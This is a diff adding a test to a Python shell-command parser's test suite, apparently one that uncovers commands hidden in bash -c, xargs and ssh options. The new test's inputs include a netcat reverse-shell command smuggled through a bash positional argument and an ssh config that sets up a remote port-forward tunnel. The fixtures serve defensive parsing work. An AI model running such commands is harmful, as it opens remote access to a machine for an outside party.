@@ -461,3 +461,12 @@ def test_option_forms_of_ssh_rsync_and_xargs():
     calls = [c.args for c in reader.read("printf 'ls\\nid\\n' | xargs --max-args=1 echo") if c.name == "echo"]
     assert calls == [["ls"], ["id"]]
     assert [c.args for c in reader.read("printf 'a b c' | xargs -n1 echo") if c.name == "echo"] == [["a"], ["b"], ["c"]]
+
+
+def test_clustered_options_before_a_value_in_bash_and_ssh():
+    assert ["-e", "/bin/sh", "10.0.0.1", "4444"] in [
+        c.args for c in reader.read("bash -eo pipefail -c '$1 -e /bin/sh 10.0.0.1 4444' _ nc") if c.name == "nc"]
+    session = Session()
+    reader.read("printf 'Host *\\n  RemoteForward 2222 localhost:22\\n' > /tmp/cfg", session)
+    cmds = [c for c in reader.read("ssh -qF /tmp/cfg -N u@203.0.113.4", session) if c.name == "ssh"]
+    assert len(cmds) == 2 and cmds[1].args == ["-oremoteforward=2222 localhost:22", "-N", "u@203.0.113.4"]
